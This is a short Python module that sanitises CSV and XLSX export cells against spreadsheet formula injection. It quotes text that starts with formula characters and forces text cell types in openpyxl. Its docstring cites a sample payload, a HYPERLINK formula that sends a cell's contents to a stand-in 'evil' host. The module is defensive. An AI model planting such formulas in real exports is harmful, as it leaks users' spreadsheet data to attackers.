"""Cells of CSV and XLSX exports that a spreadsheet program will not run as formulas.

Applicant names, subjects and organ names come from outside (an applicant's form, another
organ's envelope): ``=HYPERLINK("http://evil/?"&A1, "Bấm")`` in a name became a live formula in an
export (issue 13). OWASP "CSV Injection": a text cell starting with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return is prefixed with a single quote, which spreadsheet programs treat as
"this is text" and do not show. In XLSX a text is also written as an inline string, never as a
formula (openpyxl otherwise stores any string starting with ``=`` as one).
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value to write: text that could start a formula gets a leading quote; numbers, dates
    and None pass unchanged (a negative number stays a number)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Any) -> list[Any]:
    return [safe_cell(v) for v in row]


def mark_text(cells: Any) -> None:
    """XLSX: force every text cell of a row to the string type (openpyxl guesses formulas)."""
    for cell in cells:
        if isinstance(cell.value, str):
            cell.data_type = "s"
